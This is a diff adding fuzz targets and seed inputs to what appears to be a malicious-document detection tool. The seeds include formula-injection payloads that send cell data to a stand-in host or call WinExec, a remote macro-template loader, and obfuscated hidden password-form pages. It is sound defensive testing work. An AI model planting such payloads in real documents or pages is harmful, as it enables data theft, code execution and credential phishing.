@@ -3,15 +3,19 @@
 from collections.abc import Callable
 
 from gifthorse.inspect.content import MemoryContent
+from gifthorse.inspect.detectors import html_hidden_page
 from gifthorse.inspect.documents import (
     addresses,
     compound,
+    controls,
     encryption,
+    formulas,
     letters,
     mail,
     markup,
     onenote,
     pdf,
+    references,
     rtf,
     slides,
     spreadsheet,
@@ -52,6 +56,27 @@ def package(untrusted_input: bytes) -> None:
     opened = open_package(BytesIO(untrusted_input))
     _ = opened.relationships
     list(package_macros(opened))
+
+
+def formula_text(untrusted_input: bytes) -> None:
+    formulas.outward(untrusted_input.decode("utf-8", "replace"))
+    list(formulas.formulas_in_table(untrusted_input))
+
+
+def controlled(untrusted_input: bytes) -> None:
+    """A package whose control, ribbon, sheet and relationships are the input."""
+    from io import BytesIO
+
+    names = ("word/activeX/activeX1.xml", "customUI/customUI.xml", "xl/worksheets/s.xml", "word/_rels/document.xml.rels", "content.xml")
+    opened = open_package(BytesIO(documents.zipped(dict.fromkeys(names, untrusted_input))))
+    list(controls.controls_of(opened))
+    list(controls.taken_in(opened))
+    list(formulas.formulas_of(opened))
+    list(references.package_references(opened))
+
+
+def hidden_page(untrusted_input: bytes) -> None:
+    list(html_hidden_page.examine(item_of(untrusted_input, FileType.HTML)))
 
 
 def workbook(untrusted_input: bytes) -> None:
@@ -97,6 +122,9 @@ def letter(untrusted_input: bytes) -> None:
     found = mail.letter_from(untrusted_input)
     for link in found.links[:200]:
         letters.deceives(link)
+    written = untrusted_input.decode("utf-8", "replace")
+    letters.forms_in(written)
+    letters.invitation_links(written)
 
 
 def mailbox(untrusted_input: bytes) -> None:
@@ -146,10 +174,41 @@ def word_texts() -> list[bytes]:
     ]
 
 
+def formula_texts() -> list[bytes]:
+    return [
+        b'id,name\n1,"=WEBSERVICE(""http://files.example.net/?""&A2)"\n',
+        b"=HYPERLINK(\"\\\\files.example.net\\s\\a.exe\",A1)\n'\\\\host.example\\s\\[b.xlsx]S'!A1",
+        b'CALL("kernel32","WinExec","JCJ","calc",0)',
+    ]
+
+
+def control_parts() -> list[bytes]:
+    return [
+        b'<?xml version="1.0"?><x ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"><ocxPr value="http://a.example"/></x>'.replace(
+            b"<x", b"<ocx"
+        ),
+        b'<?xml version="1.0"?><customUI xmlns="u" onLoad="http://a.example/t.dotm!M"/>',
+        b'<w><f>WEBSERVICE("http://a.example/"&amp;A1)</f></w>',
+        documents.relationships(("aFChunk", "../customUI/customUI.xml", False)),
+    ]
+
+
+def hidden_pages() -> list[bytes]:
+    coded = b"PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg=="
+    return [
+        b"<html><script>eval(atob('" + coded + b"'))</script></html>",
+        b'<iframe src="data:text/html;base64,' + coded + b'"></iframe><meta http-equiv=refresh content="0;url=data:text/html,%3Cform%3E">',
+        b"<iframe srcdoc='&lt;input type=password&gt;'></iframe><script>eval(String.fromCharCode(" + b"60,97," * 20 + b"62))</script>",
+    ]
+
+
 PARSERS = (
     Target(name="documents.compound", parse=compound_file, seeds=of_kind(*OLE), allowed=(DamagedDocument,)),
     Target(name="documents.package", parse=package, seeds=of_kind(*OOXML), allowed=(DamagedDocument,)),
     Target(name="documents.spreadsheet", parse=workbook, seeds=workbooks, allowed=(DamagedDocument,), tries=400),
+    Target(name="documents.formulas", parse=formula_text, seeds=formula_texts, tries=400),
+    Target(name="documents.controls", parse=controlled, seeds=control_parts, allowed=(DamagedDocument,), tries=300),
+    Target(name="documents.hidden-page", parse=hidden_page, seeds=hidden_pages, tries=300),
     Target(name="documents.word", parse=word_text, seeds=word_texts, tries=400),
     Target(name="documents.vba", parse=macro_source, seeds=compressed, allowed=(DamagedDocument,), tries=400),
     Target(name="documents.rtf", parse=rich_text, seeds=of_kind(FileType.RTF)),
